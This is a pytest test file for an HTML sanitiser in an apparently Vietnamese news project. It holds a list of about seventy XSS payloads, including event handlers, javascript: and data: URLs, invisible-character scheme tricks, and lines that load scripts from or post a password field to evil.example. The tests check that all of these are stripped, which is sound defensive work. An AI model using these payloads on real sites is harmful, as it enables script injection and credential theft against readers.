"""The one sanitiser: whatever an article holds, nothing active reaches a page."""

from __future__ import annotations

import html
import re

import pytest
from bs4 import BeautifulSoup, Comment, Tag
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from plugins.core import markup
from plugins.core.characters import only_seen
from plugins.core.markup import plain_text, removed_from, sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)",
    "</p><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr = 'alert(1)'>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src='javascript:alert(1)'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    '<img srcset="javascript:alert(1) 1x, x.jpg 2x" src="x.jpg">',
    '<img src="x" style="background:url(javascript:alert(1))">',
    "<a href=javascript:alert(1)>bấm</a>",
    "<a href='JaVaScRiPt:alert(1)'>bấm</a>",
    "<a href='java\nscript:alert(1)'>bấm</a>",
    "<a href='java&#x09;script:alert(1)'>bấm</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>bấm</a>",
    "<a href=' \x01javascript:alert(1)'>bấm</a>",
    "<a href='vbscript:msgbox(1)'>bấm</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>bấm</a>",
    "<a href='file:///etc/passwd'>bấm</a>",
    "<a href='blob:https://evil.example/1'>bấm</a>",
    "<a href='x' target='_blank' onclick='alert(1)'>bấm</a>",
    '<a href="x" title=\'"><script>alert(1)</script>\'>bấm</a>',
    "<p onmouseover=alert(1)>Chỉ thị 05</p>",
    "<p style='position:fixed;inset:0'>Chỉ thị 05</p>",
    "<p class='skip' id='noi-dung' tabindex=1>Chỉ thị 05</p>",
    "<style>body{display:none}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'></style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>bấm</text></a></svg>",
    "<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>bấm</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=https://evil.example><input name=matkhau><button formaction=javascript:alert(1)>Gửi</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<video src=x onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>tin</marquee>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head><body background=javascript:alert(1)>",
    "<!-- chú thích --><!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- không đóng <p>Chỉ thị 05</p>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><?php echo 1 ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "<p><b><i>không đóng <a href='x'>gì cả",
    "<table><tr><td>ô<script>alert(1)</script>",
    "<div><p>một</div>hai</p></div></div></article></main>",
    "<p title=\"a > b\">Chỉ thị</p><p title='<script>'>05</p>",
    "<custom-element onclick=alert(1)>tin</custom-element>",
    "<a href='//evil.example/x' ping='https://evil.example' download>bấm</a>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<p>\u2028<\u200bscript>alert(1)</script></p>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
ACTIVE = {
    *("script", "style", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "base", "meta"),
    *("link", "video", "audio", "source", "template", "noscript", "details", "marquee", "body", "html", "frame", "frameset", "applet"),
    *("area", "map", "xmp", "plaintext", "dialog", "portal", "title", "head"),
}
SAFE_ADDRESS = re.compile(r"(?:https?:|mailto:|tel:|(?![a-z][a-z0-9+.-]*:))", re.IGNORECASE)


def elements(markup: str, parser: str) -> list[Tag]:
    soup = BeautifulSoup(f"<div>{markup}</div>", parser)
    assert not soup.find_all(string=lambda text: isinstance(text, Comment)), "a comment stayed"
    return [element for element in soup.find_all(True) if not (parser == "lxml" and element.name in ("html", "body"))]


@pytest.mark.parametrize("parser", ["html.parser", "lxml"])
@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_active_is_left_of_an_attack(attack: str, parser: str) -> None:
    for element in elements(sanitise(attack), parser):
        assert element.name not in ACTIVE, f"<{element.name}> stayed"
        for name, value in element.attrs.items():
            assert not name.lower().startswith("on"), f"{name} stayed"
            assert name not in ("style", "srcset", "srcdoc", "action", "formaction", "ping", "target", "background"), f"{name} stayed"
            if name in ("href", "src"):
                assert SAFE_ADDRESS.match(re.sub(r"[\x00-\x20]", "", str(value))), f"{name}={value} stayed"


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_does_not_leave_its_place_on_the_page(attack: str) -> None:
    page = lxml_html.document_fromstring(f'<main id="main">{sanitise(attack)}</main><footer id="footer">hết</footer>')
    footer = page.get_element_by_id("footer")
    assert footer.getparent().tag == "body"
    assert footer.text_content() == "hết"


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_was_sanitised_is_left_as_it_is(attack: str) -> None:
    assert sanitise(sanitise(attack)) == sanitise(attack)


PIECES = [
    *("<p>", "</p>", "</p>\n<p>", "<P>", "<p >", "</p ", "p>", "\n"),
    *("Chỉ thị 05", "<", ">", "&", "&amp;", "\x00", "\r", "\t", "\u00a0", "\u200b"),
]


@settings(deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=8).map("".join))
def test_paragraphs_alone_are_kept_as_they_are_beside_something_else(text: str) -> None:
    for whole in (text, f"<p>{text}</p>"):
        assert f"<hr>{sanitise(whole)}" == sanitise(f"<hr>{whole}")


def test_what_a_news_text_holds_is_kept() -> None:
    text = (
        '<h2 id="muc-ket-qua">Kết quả</h2><p>Chỉ thị <strong>05</strong>, <em>nêu gương</em> &amp; <sup id="fnref:1">1</sup></p>'
        '<figure><img src="images/hop.jpg" alt="Hội trường">'
        '<figcaption>Quang cảnh <span class="credit">Phan Hân</span></figcaption></figure>'
        '<ol start="3"><li>một</li></ol><table><thead><tr><th scope="col">Năm</th></tr></thead>'
        '<tbody><tr><td colspan="2" rowspan="2">2021</td></tr></tbody></table>'
        "<blockquote><p>lời</p></blockquote><pre><code>x</code></pre><hr>"
    )
    assert sanitise(text) == text


def test_links_to_other_sites_say_nothing_of_where_the_reader_came_from() -> None:
    assert sanitise('<a href="https://dangcongsan.vn" title="Báo">x</a>') == (
        '<a href="https://dangcongsan.vn" title="Báo" rel="noopener noreferrer">x</a>'
    )


def test_classes_that_are_not_ours_are_dropped() -> None:
    assert sanitise('<span class="credit skip">A</span>') == '<span class="credit">A</span>'


def test_attributes_hold_no_mark_that_could_be_taken_for_a_tag() -> None:
    assert sanitise('<img alt="a > b <c>" src="x.jpg">') == '<img alt="a &gt; b &lt;c&gt;" src="x.jpg">'


@pytest.mark.parametrize(
    ("markup", "words"),
    [
        ("<p>Chỉ thị <b>05</b></p><p>Nghị quyết &amp; kết luận</p>", "Chỉ thị 05 Nghị quyết & kết luận"),
        ("<ul><li>một</li><li>hai</li></ul>", "một hai"),
        ("<p>dòng<br>khác</p>", "dòng khác"),
        ('<p>a <img alt="x > y" src="x"> b</p>', "a b"),
        ("<p>5 &lt; 7 &gt; 3</p>", "5 < 7 > 3"),
        ("", ""),
    ],
)
def test_the_words_of_a_text_are_taken_out(markup: str, words: str) -> None:
    assert plain_text(sanitise(markup)) == words


class Spy:
    """A sanitiser that only notes what it was given."""

    def __init__(self, seen: list[str]) -> None:
        self._seen = seen

    def clean(self, text: str) -> str:
        self._seen.append(text)
        return text


@pytest.mark.parametrize(
    "text",
    ["", "Tin", "<p>Tin</p>", "<p>Một</p>\n<p>hai</p>", '<h2 id="muc-a">A</h2>', "<script>x()</script>", '<p onclick="x()">Tin</p>'],
)
def test_every_text_passes_nh3(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    seen: list[str] = []
    monkeypatch.setattr(markup, "_SANITISER", Spy(seen))
    monkeypatch.setattr(markup, "_cleaner", lambda *_, **__: Spy(seen))
    markup.sanitise(text)
    assert seen


HIDDEN = ("\u00ad", "\u200b", "\u200c", "\u200e", "\u202a", "\u2060", "\ufeff", "\ufdd0", "\ufffe", "\x01", "\x7f")


@pytest.mark.parametrize("spelling", ["{char}", "&#{number};", "&#x{number:x};", "&#{number:08};"])
@pytest.mark.parametrize("char", HIDDEN, ids=[f"U+{ord(char):04X}" for char in HIDDEN])
@pytest.mark.parametrize(
    "address", ["java{0}script:alert(1)", "{0}javascript:alert(1)", "javascript{0}:alert(1)", "vb{0}script:x", "da{0}ta:text/html,x"]
)
def test_a_character_that_nobody_sees_hides_no_scheme(address: str, char: str, spelling: str) -> None:
    hidden = spelling.format(char=char, number=ord(char))
    for text in (f'<a href="{address.format(hidden)}">xem</a>', f'<p><img alt="x" src="{address.format(hidden)}"></p>'):
        clean = sanitise(text)
        assert sanitise(clean) == clean
        assert not re.search(r"script:|data:", only_seen(html.unescape(clean)))


def test_an_editor_is_told_of_a_hidden_scheme() -> None:
    removed = removed_from('<p><a href="java&#8203;script:alert(1)">xem</a></p>')
    assert [(item.what.value, item.name) for item in removed] == [("address", "javascript")]
